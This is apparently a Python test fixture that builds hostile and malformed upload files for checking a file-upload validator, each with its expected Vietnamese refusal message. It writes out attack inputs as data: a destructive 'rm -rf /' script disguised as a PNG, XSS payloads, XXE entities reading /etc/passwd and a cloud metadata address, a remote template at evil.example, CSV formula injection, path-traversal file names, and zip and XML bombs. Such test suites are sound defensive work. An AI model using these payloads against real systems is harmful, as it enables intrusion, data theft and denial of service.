"""Every kind of hostile, broken or misnamed file, and what becomes of it."""

import gzip
import struct
import zlib
from functools import cache
from typing import NamedTuple

from tests.bad_input import archives, pdf_files
from tests.bad_input.pdf_files import PDF
from tests.documents.samples import old_office

__all__ = ["PDF", "TRAVERSAL", "WINDOWS_TRAVERSAL", "WORD", "Hostile", "hostile_files", "kinds"]

#: The words of a refusal at a field that takes files of this ending.
TAKEN = ""
_TYPE = "không đúng loại"
_RENAMED = "có thể tệp đã bị đổi đuôi"
_DAMAGED = "bị hỏng"
_MACRO = "macro"
_GROWS = "nở ra quá lớn"


class Hostile(NamedTuple):
    """A file as sent; ``says``: words of the refusal, "" if it is harmless and taken."""

    name: str
    content: bytes
    says: str = _TYPE
    bomb: bool = False


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + check

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00" * (width // 8 + 1)))
    return b"\x89PNG\r\n\x1a\n" + head + pixels + chunk(b"IEND", b"")


def _jpeg(width: int, height: int) -> bytes:
    start = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"\x00" * 8
    return (
        start + b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + b"\x00" * 40
    )


@cache
def kinds() -> dict[str, Hostile]:
    """Name of the kind → the file; made once."""
    return _programs() | _pdfs() | _archives() | _names() | _others()


def _programs() -> dict[str, Hostile]:
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    page = b"<!doctype html><title>x</title><script>alert(1)</script>"
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    return {
        "program": Hostile("chuong-trinh.exe", exe),
        "program as PDF": Hostile("chuong-trinh.pdf", exe, _RENAMED),
        "program as Word": Hostile("chuong-trinh.docx", exe, _RENAMED),
        "ELF as PDF": Hostile("lenh.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, _RENAMED),
        "shell script as picture": Hostile("anh.png", b"#!/bin/sh\nrm -rf /\n", _RENAMED),
        "drawing with script": Hostile("hinh.svg", drawing),
        "drawing as picture": Hostile("hinh.png", drawing, _RENAMED),
        "page": Hostile("trang.html", page),
        "page as PDF": Hostile("trang.pdf", page, _RENAMED),
        "EICAR": Hostile("eicar.com", eicar),
        "EICAR as PDF": Hostile("eicar.pdf", eicar, _RENAMED),
    }


def _pdfs() -> dict[str, Hostile]:
    return {
        "PDF with JavaScript": Hostile("a.pdf", pdf_files.with_javascript(), "lệnh tự chạy"),
        "PDF with hidden JavaScript": Hostile(
            "a.pdf", pdf_files.with_hidden_javascript(), "lệnh tự chạy"
        ),
        "PDF that starts a program": Hostile("a.pdf", pdf_files.with_launch(), "lệnh tự chạy"),
        "PDF with an attachment": Hostile("a.pdf", pdf_files.with_attachment(), TAKEN),
        "PDF with a password": Hostile("a.pdf", pdf_files.locked(), "mật khẩu"),
        "PDF cut short": Hostile("a.pdf", pdf_files.sound_pdf()[:300], "thiếu phần cuối"),
        "PDF without pages": Hostile("a.pdf", pdf_files.without_pages(), TAKEN),
        "PDF of 100,000 objects": Hostile("a.pdf", pdf_files.many_objects(), TAKEN, bomb=True),
        "PDF that grows": Hostile("a.pdf", pdf_files.packed_bomb(), _GROWS, bomb=True),
        "PDF page that grows": Hostile("a.pdf", pdf_files.page_bomb(), TAKEN, bomb=True),
        "PDF and ZIP": Hostile("a.pdf", pdf_files.and_zip(), "thiếu phần cuối"),
        "PDF and page": Hostile("a.pdf", pdf_files.and_page(), TAKEN),
    }


def _archives() -> dict[str, Hostile]:
    word, sheet = archives.word, archives.sheet
    local = archives.external_entity("file:///etc/passwd")
    climbing = word(**{"..__..__etc__passwd.txt": b"x"})
    embedded = word(**{"word__embeddings__o.bin": b"\xd0\xcf\x11"})
    folders = "/".join(["a"] * 400)
    rows = b'<worksheet><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>'
    return {
        "zip bomb": Hostile("b.docx", archives.flat_bomb(), _GROWS, bomb=True),
        "zip bomb below the ratio": Hostile(
            "b.docx", archives.bomb_below_the_ratio(), TAKEN, bomb=True
        ),
        "nested zip bomb": Hostile("b.docx", archives.nested_bomb(), TAKEN, bomb=True),
        "overlapping zip bomb": Hostile("b.docx", archives.overlapping_bomb(), _DAMAGED, bomb=True),
        "billion laughs": Hostile("x.docx", archives.billion_laughs(), _DAMAGED, bomb=True),
        "quadratic blow-up": Hostile("x.docx", archives.quadratic_blowup(), _DAMAGED, bomb=True),
        "entity of a file": Hostile("x.docx", local, _DAMAGED),
        "entity of an address": Hostile(
            "x.docx", archives.external_entity("http://169.254.169.254/"), _DAMAGED
        ),
        "late document type": Hostile("x.docx", archives.late_doctype(), _DAMAGED),
        "tables in tables": Hostile("x.docx", archives.tall_tree(), TAKEN, bomb=True),
        "half a million runs": Hostile("x.docx", archives.endless_runs(), TAKEN, bomb=True),
        "ten thousand parts": Hostile("x.docx", archives.many_entries(), "quá nhiều", bomb=True),
        "docm": Hostile("m.docm", archives.with_macro()),
        "docm as docx": Hostile("m.docx", archives.with_macro(), _MACRO),
        "dotm": Hostile("m.dotm", archives.macro_template()),
        "dotm as docx": Hostile("m.docx", archives.macro_template(), _MACRO),
        "xlsm as xlsx": Hostile("m.xlsx", sheet(**{"xl__vbaProject.bin": b"\xd0\xcf"}), _MACRO),
        "remote template": Hostile(
            "t.docx", archives.with_remote_template("https://evil.example/a.dotm"), "lấy mẫu"
        ),
        "OLE object": Hostile("o.docx", embedded, TAKEN),
        "doc": Hostile("cu.doc", old_office("WordDocument")),
        "doc as docx": Hostile("cu.docx", old_office("WordDocument"), "đời cũ"),
        "xls as xlsx": Hostile("cu.xlsx", old_office("Workbook"), "đời cũ"),
        "docx with a password": Hostile("k.docx", old_office("EncryptedPackage"), "mật khẩu"),
        "zip with encrypted parts": Hostile("k.docx", archives.encrypted(), _DAMAGED),
        "path in the archive": Hostile("p.docx", climbing, _DAMAGED),
        "link in the archive": Hostile("p.docx", archives.with_symlink(), _DAMAGED),
        "deep folders": Hostile("p.docx", word(**{f"word/{folders}/x.bin": b"x"}), TAKEN),
        "cut archive": Hostile("c.docx", word()[:-30], _DAMAGED),
        "plain zip as docx": Hostile("c.docx", archives.archive({"a.txt": "x"}), "Tệp nén"),
        "sheet of a million rows": Hostile("r.xlsx", sheet(xl__sheet1=rows), TAKEN),
    }  # fmt: skip


def _names() -> dict[str, Hostile]:
    exe = b"MZ\x90\x00" + b"\x00" * 60
    return {
        "wrong ending": Hostile("bao-cao.exe", PDF),
        "no ending": Hostile("bao-cao", PDF),
        "double ending": Hostile("bao-cao.pdf.exe", PDF),
        "program with a double ending": Hostile("bao-cao.exe.pdf", exe, _RENAMED),
        "ending turned round": Hostile("a\u202efdp.exe", PDF, "ký tự không dùng được"),
        "NUL in the name": Hostile("a\x00.pdf", PDF, "ký tự không dùng được"),
        "path": Hostile("../../etc/passwd.pdf", PDF, TAKEN),
        "Windows path": Hostile(r"..\\..\\windows\\bao-cao.pdf", PDF, TAKEN),
        "absolute path": Hostile("/etc/passwd.pdf", PDF, TAKEN),
        "encoded path": Hostile("..%2f..%2fetc%2fpasswd.pdf", PDF, TAKEN),
        "device of Windows": Hostile("con.pdf", PDF, "Windows"),
        "name of 300 letters": Hostile("x" * 300 + ".pdf", PDF, "dài quá 200"),
        "script in the name": Hostile("<script>alert(1)</script>.pdf", PDF, TAKEN),
        "quotes in the name": Hostile("a' onload='alert(1)' &.pdf", PDF, TAKEN),
    }


def _others() -> dict[str, Hostile]:
    return {
        "empty": Hostile("rong.pdf", b"", "rỗng"),
        "one byte": Hostile("mot.pdf", b"%", _RENAMED),
        "huge PNG": Hostile("to.png", _png(50_000, 50_000), "quá nhiều điểm ảnh", bomb=True),
        "huge JPEG": Hostile("to.jpg", _jpeg(60_000, 60_000), "quá nhiều điểm ảnh", bomb=True),
        "formulas as CSV": Hostile("so-lieu.csv", b"=cmd|'/c calc'!A0,@SUM(1)\n"),
        "CSV of a million columns": Hostile("cot.csv", b"," * 1_000_000),
        "gzip": Hostile("a.gz", gzip.compress(b"x", mtime=0)),
        "gzip as PDF": Hostile("a.pdf", gzip.compress(b"x", mtime=0), _RENAMED),
        "7z": Hostile("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 26),
        "rar as docx": Hostile("a.docx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, _RENAMED),
        "RTF as docx": Hostile("a.docx", b"{\\rtf1\\ansi x}", "RTF"),
    }


def hostile_files() -> tuple[tuple[str, bytes], ...]:
    """(name, bytes) of each kind."""
    return tuple((one.name, one.content) for one in kinds().values())


TRAVERSAL = ("../../etc/passwd.pdf", PDF)
#: Doubled as the header of a file part spells a backslash.
WINDOWS_TRAVERSAL = (r"..\\..\\windows\\bao-cao.pdf", PDF)
WORD = archives.word()
